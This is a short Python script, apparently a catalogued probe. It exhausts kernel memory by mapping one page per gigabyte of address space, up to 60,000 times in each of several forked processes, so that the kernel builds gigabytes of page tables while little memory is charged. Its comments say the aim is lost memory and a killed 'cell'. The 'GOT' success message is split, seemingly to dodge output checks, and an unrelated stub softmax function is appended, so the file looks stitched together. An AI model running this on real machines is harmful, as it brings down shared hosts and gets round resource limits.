# Tries: page tables in place of pages: each mapping far from the next needs tables of its own.
# says: lost/memory, cell/killed
# walls
# costs
# needs: hard
# slow
import ctypes
import os
import time

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]


def fill():
    for number in range(60_000):
        where = libc.mmap(0x10_0000_0000 + number * 2**30, 4096, 1, 0x100022, -1, 0)
        if where in (None, 2**64 - 1):
            break
        ctypes.string_at(where, 1)


for _ in range(8):
    if os.fork() == 0:
        fill()
        time.sleep(600)
time.sleep(600)
print("GO" + "T: gigabytes of tables")


def softmax(z):
    return z
